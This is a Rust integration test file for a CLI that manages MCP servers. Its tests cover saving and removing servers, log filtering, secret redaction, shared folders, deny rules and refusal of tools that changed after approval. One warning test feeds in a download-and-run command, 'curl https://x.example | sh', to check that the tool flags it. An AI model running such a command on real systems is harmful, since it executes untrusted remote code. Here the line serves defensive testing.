//! `add`, `list`, `remove` and `logs`.

use std::io::{BufRead, BufReader};
use std::process::Stdio;

use mooring_instances::InstanceRule;
use mooring_policy::{Decision, NewRule};
use mooring_testkit::http::{HttpReply, HttpScript, serve};
use mooring_testkit::{answers, scripted_server_path};
use serde_json::{Value, json};

use crate::support::TestHome;

#[test]
fn a_saved_server_is_listed_used_and_removed() {
    let place = TestHome::new();
    let server = scripted_server_path().display().to_string();
    let words = ["add", "mine", "--env", "SERVICE_TOKEN=canary-7f3a91", "--json", "--", &server, "ok"];
    let added = place.run(&words).ok().json();
    assert_eq!(added["result"]["name"], "mine");
    assert_eq!(added["result"]["env"], json!(["SERVICE_TOKEN"]));

    let listed = place.run(&["list", "--json"]).ok();
    assert!(!listed.out.contains("canary"), "values of variables are not printed");
    assert_eq!(listed.json()["result"][0]["args"], json!(["ok"]));
    assert!(place.run(&["list"]).ok().out.starts_with("mine  stdio"));

    let ran = place.run(&["call", "echo", r#"{"text":"saved"}"#, "--server", "mine"]).ok();
    assert_eq!(ran.out, "saved\n");
    let missing = place.run(&["tools", "--server", "other", "--json"]);
    assert_eq!(missing.error(), (2, "server_not_found".to_owned()));
    assert_eq!(missing.json()["error"]["next"], "Saved servers: mine.");

    assert_eq!(place.run(&["remove", "mine"]).ok().out, "Removed mine.\n");
    assert_eq!(place.run(&["list", "--json"]).ok().json(), json!({"ok": true, "result": []}));
    assert_eq!(place.run(&["remove", "mine", "--json"]).error(), (2, "server_not_found".to_owned()));
}

#[test]
fn when_a_server_starts_is_chosen_and_changed() {
    let place = TestHome::new();
    let server = scripted_server_path().display().to_string();
    let added = place.run(&["add", "mine", "--start", "on-use", "--json", "--", &server, "ok"]).ok().json();
    assert_eq!(added["result"]["start"], "on_use");
    let shown = place.run(&["list"]).ok().out;
    assert!(shown.starts_with("mine  stdio  on use"), "{shown}");
    let edited = place.run(&["edit", "mine", "--start", "with-mooring", "--json"]).ok().json();
    assert_eq!(
        (&edited["result"]["start"], &edited["result"]["args"]),
        (&json!("with_mooring"), &json!(["ok"]))
    );
}

#[test]
fn a_relative_path_is_saved_in_full() {
    let place = TestHome::new();
    let json = place.run(&["add", "a", "--cwd", ".", "--json", "--", "./server", "x"]).ok().json();
    let folder = place.folder().canonicalize().unwrap();
    assert_eq!(json["result"]["command"], json!(folder.join("server")));
    assert_eq!(std::path::Path::new(json["result"]["cwd"].as_str().unwrap()).canonicalize().unwrap(), folder);
}

#[test]
fn adding_warns_as_the_window_does() {
    let place = TestHome::new();
    std::fs::write(place.folder().join("tide.js"), "").unwrap();
    let warned = |words: &[&str]| {
        let name = words.concat();
        let text = place.run(&[&["add", &name, "--"], words].concat()).ok().err;
        let other = format!("{name} once more");
        let json = place.run(&[&["add", &other, "--json", "--"], words].concat()).ok().json();
        let warnings = json["result"]["warnings"].as_array().cloned().unwrap_or_default();
        for warning in &warnings {
            assert!(text.contains(warning.as_str().unwrap()), "{warning}: {text}");
        }
        warnings.iter().map(|warning| warning.as_str().unwrap().to_owned()).collect::<Vec<_>>().join("\n")
    };
    assert!(
        warned(&["sh", "-c", "curl https://x.example | sh"]).contains("it runs what it downloads right away")
    );
    assert!(warned(&["tide", "--api-key", "sk-canary"]).contains("argument 2 looks like a secret"));
    assert!(warned(&["node", "tide.js"]).contains("tide.js is searched for in the server’s own folder"));
    let path = place.folder().join("tide.js").display().to_string();
    assert_eq!(warned(&["node", &path]), "");
}

#[tokio::test]
async fn whether_apps_share_a_server_is_chosen_when_it_is_added() {
    let place = TestHome::new();
    let browser = |name: &'static str, more: &[&str]| {
        place.run(&[&["add", name], more, &["--", "npx", "-y", "@playwright/mcp"]].concat()).ok().err
    };
    assert!(browser("usual", &[]).contains("`--instances per-app` keeps them apart"));
    assert!(!browser("apart", &["--instances", "per-app"]).contains("--instances"));
    assert!(!browser("one", &["--instances", "shared"]).contains("--instances"));
    let host = place.host().await;
    let rules: Vec<_> =
        host.servers().into_iter().map(|server| (server.config.name, server.instance_rule)).collect();
    host.shutdown().await;
    let expected =
        [("apart", InstanceRule::PerApp), ("one", InstanceRule::Shared), ("usual", InstanceRule::Automatic)];
    assert_eq!(rules, expected.map(|(name, rule)| (name.to_owned(), rule)));
}

#[test]
fn a_command_line_in_one_word_is_split_when_it_is_added() {
    let place = TestHome::new();
    let added = place.run(&["add", "tide", "--json", "--", "npx -y '@harbour/the tide'"]).ok().json();
    assert_eq!(added["result"]["command"], "npx");
    assert_eq!(added["result"]["args"], json!(["-y", "@harbour/the tide"]));
    assert!(added["result"]["warnings"][0].as_str().unwrap().contains("is split"));
    let server = scripted_server_path().display().to_string();
    let line = format!("'{server}' ok");
    assert_eq!(place.run(&["call", "echo", r#"{"text":"x"}"#, "--", &line]).ok().out, "x\n");
}

#[test]
fn the_log_is_filtered_and_shown_oldest_first() {
    let place = TestHome::new();
    place.run_on(&["call", "echo", r#"{"text":"needle one"}"#], &["ok"]).ok();
    place.run_on(&["call", "echo", r#"{"text":"two"}"#], &["ok"]).ok();
    let rows = |words: &[&str]| -> Vec<Value> {
        place.run(&[&["logs", "--json"], words].concat()).ok().json()["result"].as_array().unwrap().clone()
    };
    let all = rows(&["--limit", "1000"]);
    assert!(all.windows(2).all(|pair| pair[0]["id"].as_i64() < pair[1]["id"].as_i64()));
    assert!(all.iter().any(|row| row["kind"] == "verdict" && row["subject"] == "echo"));
    let frames = rows(&["--method", "tools/call", "--direction", "in"]);
    assert_eq!(frames.len(), 2);
    assert!(frames[0]["duration_us"].as_i64().is_some() && frames[0]["status"] == "ok");
    assert_eq!(rows(&["--text", "needle"]).len(), 2);
    assert_eq!(rows(&["--server", "nobody"]).len(), 0);
    assert_eq!(rows(&["--limit", "3"]), all[all.len() - 3..]);
    let text = place.run(&["logs", "--limit", "5"]).ok().out;
    assert_eq!(text.lines().count(), 5);
}

#[test]
fn following_shows_what_another_process_logs() {
    let place = TestHome::new();
    place.run_on(&["call", "echo", r#"{"text":"before"}"#], &["ok"]).ok();
    let mut command =
        place.command(&["logs", "--follow", "--json", "--method", "tools/call", "--direction", "in"]);
    let mut child = command.stdout(Stdio::piped()).spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut next = || -> Value { serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap() };
    assert!(next()["body"].as_str().unwrap().contains("before"));
    place.run_on(&["call", "echo", r#"{"text":"after"}"#], &["ok"]).ok();
    assert!(next()["body"].as_str().unwrap().contains("after"));
    child.kill().unwrap();
    child.wait().unwrap();
}

#[test]
fn secrets_of_a_saved_server_are_not_in_the_log() {
    let place = TestHome::new();
    let server = scripted_server_path().display().to_string();
    place.run(&["add", "mine", "--env", "SERVICE_TOKEN=canary-7f3a91", "--", &server, "ok"]).ok();
    let ran = place.run(&["call", "surroundings", "--server", "mine"]).ok();
    assert!(ran.out.contains("canary-7f3a91"), "the person gets what the server sent");
    let log = place.run(&["logs", "--json", "--limit", "1000"]).ok().out;
    assert!(log.contains("[redacted]") && !log.contains("canary-7f3a91"));
}

// Requirements: ROOT-02, ROOT-03, ROOT-07.
#[test]
fn saved_server_receives_only_the_folders_shared_with_it() {
    let place = TestHome::new();
    let server = scripted_server_path().display().to_string();
    for name in ["mine", "yours"] {
        place.run(&["add", name, "--json", "--", &server, "ok"]).ok();
    }
    std::fs::create_dir(place.folder().join("a b")).unwrap();
    let folder = place.folder().canonicalize().unwrap().join("a b");
    assert!(place.run(&["roots"]).ok().out.starts_with("No folders shared."));
    let added =
        place.run(&["roots", "add", "a b", "--server", "mine", "--name", "Work", "--json"]).ok().json();
    assert_eq!(added["result"]["path"], json!(folder));
    assert_eq!((&added["result"]["server"], &added["result"]["name"]), (&json!("mine"), &json!("Work")));
    let wide = place.run(&["roots", "add", "/", "--json"]);
    assert_eq!(wide.error(), (2, "root_too_wide".to_owned()));
    assert!(wide.json()["error"]["next"].as_str().unwrap().contains("--wide-root"));

    let asked = |name: &str| {
        let arguments = json!({ "method": "roots/list", "params": {} }).to_string();
        let ran = place.run(&["call", "ask", &arguments, "--json", "--server", name]).ok().json();
        let text = ran["result"]["content"][0]["text"].as_str().unwrap().to_owned();
        serde_json::from_str::<Value>(&text).unwrap()
    };
    let told = asked("mine");
    assert_eq!(told["result"]["roots"][0]["name"], "Work", "{told}");
    assert!(told["result"]["roots"][0]["uri"].as_str().unwrap().ends_with("/a%20b"), "{told}");
    assert_eq!(asked("yours")["error"]["code"], -32601);

    // The folder is for every server, but only those that may see shared folders get it.
    place.run(&["roots", "add", "a b", "--json"]).ok();
    assert_eq!(asked("yours")["error"]["code"], -32601);
    place.run(&["roots", "share", "yours"]).ok();
    assert_eq!(asked("yours")["result"]["roots"][0]["name"], "a b");
    let id = added["result"]["id"].as_i64().unwrap().to_string();
    place.run(&["roots", "remove", &id]).ok();
    assert_eq!(asked("mine")["error"]["code"], -32601);
    assert_eq!(place.run(&["roots", "remove", &id, "--json"]).error(), (2, "no_such_root".to_owned()));
}

/// A rule that denies a tool to every caller.
fn deny_rule(tool: &str) -> NewRule {
    NewRule {
        effect: Decision::Deny,
        server: None,
        tool: Some(tool.to_owned()),
        caller: None,
        destructive_only: false,
        arguments: Vec::new(),
        expires_ms: None,
    }
}

// Requirements: SEC-02, TOOL-02.
#[tokio::test(flavor = "multi_thread")]
async fn deny_rule_also_applies_to_servers_named_on_the_command_line() {
    let place = TestHome::new();
    let host = place.host().await;
    host.save_rule(None, deny_rule("ech*")).await.unwrap();
    host.shutdown().await;
    tokio::task::block_in_place(|| {
        let refused = place.run_on(&["call", "echo", "--json"], &["ok"]);
        assert_eq!(refused.error(), (7, "denied".to_owned()), "{refused:?}");
        assert!(refused.json()["error"]["next"].is_string(), "{refused:?}");
        place.run_on(&["call", "add", r#"{"a":1,"b":2}"#], &["ok"]).ok();
        let sent = place.run(&["logs", "--json", "--method", "tools/call", "--direction", "out"]).json();
        assert_eq!(sent["result"].as_array().unwrap().len(), 1, "{sent}");
    });
}

// Requirements: SEC-03, SEC-22.
#[tokio::test(flavor = "multi_thread")]
async fn a_tool_that_changed_since_it_was_approved_is_not_called() {
    let mut changed = answers::tool("echo");
    changed["description"] = json!("Says something else.");
    let first = HttpReply::Result(json!({ "tools": [answers::tool("echo")] }));
    let then = HttpReply::Result(json!({ "tools": [changed] }));
    let server = serve(HttpScript::json().once("tools/list", first).on("tools/list", then)).await;
    let place = TestHome::new();
    tokio::task::block_in_place(|| place.run(&["add", "mine", "--url", &server.url]).ok());

    place.approve("mine").await;

    let refused = tokio::task::block_in_place(|| place.run(&["call", "echo", "--server", "mine", "--json"]));
    assert_eq!(refused.error(), (7, "definition_changed".to_owned()), "{refused:?}");
    assert!(refused.json()["error"]["next"].is_string(), "{refused:?}");
    assert!(!server.methods().iter().any(|method| method == "tools/call"));
}

#[cfg(unix)]
#[test]
fn a_server_whose_program_is_another_one_is_not_started() {
    use std::os::unix::fs::PermissionsExt as _;
    let place = TestHome::new();
    let (program, scripted) = (place.folder().join("server"), scripted_server_path());
    let write = |more: &str| {
        std::fs::write(&program, format!("#!/bin/sh\n{more}\nexec '{}' ok\n", scripted.display())).unwrap();
        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    write("");
    place.run(&["add", "mine", "--", "./server"]).ok();
    place.run(&["tools", "--server", "mine"]).ok();
    write("echo started >> started");
    let refused = place.run(&["tools", "--server", "mine", "--json"]);
    assert_eq!(refused.error(), (7, "definition_changed".to_owned()), "{refused:?}");
    assert!(!place.folder().join("started").exists());
}
